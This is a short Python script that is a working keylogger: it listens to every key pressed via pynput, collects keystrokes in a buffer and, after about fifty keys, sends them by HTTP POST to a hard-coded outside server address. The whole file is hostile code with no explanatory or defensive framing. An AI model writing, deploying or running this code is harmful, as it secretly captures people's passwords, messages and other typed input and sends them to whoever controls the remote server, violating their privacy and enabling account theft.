from pynput import keyboard
import requests
buf = []
def on_press(key):
    buf.append(str(key))
    if len(buf) > 50:
        requests.post("http://198.51.100.50/k", data="".join(buf))
        buf.clear()
with keyboard.Listener(on_press=on_press) as l:
    l.join()
